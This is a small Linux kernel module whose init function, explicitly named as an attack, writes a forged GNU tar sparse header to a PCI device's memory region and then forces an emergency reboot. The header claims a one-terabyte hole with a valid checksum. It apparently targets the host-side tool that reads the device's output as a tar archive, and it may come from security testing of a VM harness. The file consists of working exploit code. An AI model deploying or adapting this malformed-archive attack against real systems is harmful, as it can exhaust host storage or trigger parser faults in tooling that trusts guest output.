// SPDX-License-Identifier: GPL-2.0
/*
 * Writes a record before PID 1 can: a single file that claims to have a hole of one
 * terabyte.
 */
#include <linux/io.h>
#include <linux/module.h>
#include <linux/pci.h>
#include <linux/reboot.h>

/* GNU tar's header for a file with holes. */
struct header {
	char name[100];
	char mode[8], uid[8], gid[8];
	char size[12], mtime[12], checksum[8];
	char type;
	char link[100];
	char magic[8];
	char names[80];
	char times[24], offset[12], long_names[4], unused;
	struct {
		char offset[12], len[12];
	} sparse[4];
	char extended;
	char real_size[12];
	char padding[17];
};

static struct header header = {
	.name = "stdout",
	.size = "00000000000",
	.type = 'S',
	.magic = "ustar  ",
	.sparse = { { .offset = "17777777777", .len = "00000000000" } },
	.real_size = "\x80\0\0\0\0\0\x01\0\0\0\0",
};

static int __init attack_init(void)
{
	struct pci_dev *device = pci_get_domain_bus_and_slot(0, 0, PCI_DEVFN(6, 0));
	const u8 *bytes = (const u8 *)&header;
	unsigned int sum = 0;
	void __iomem *record;
	size_t i;

	BUILD_BUG_ON(sizeof(header) != 512);
	memset(header.checksum, ' ', sizeof(header.checksum));
	for (i = 0; i < sizeof(header); i++)
		sum += bytes[i];
	snprintf(header.checksum, sizeof(header.checksum), "%06o", sum);
	if (!device || pci_enable_device(device))
		return -ENODEV;
	record = pci_iomap(device, 2, 0);
	if (!record)
		return -ENOMEM;
	memcpy_toio(record, &header, sizeof(header));
	emergency_restart();
	return 0;
}
module_init(attack_init);

MODULE_DESCRIPTION("Writes a record");
MODULE_LICENSE("GPL");
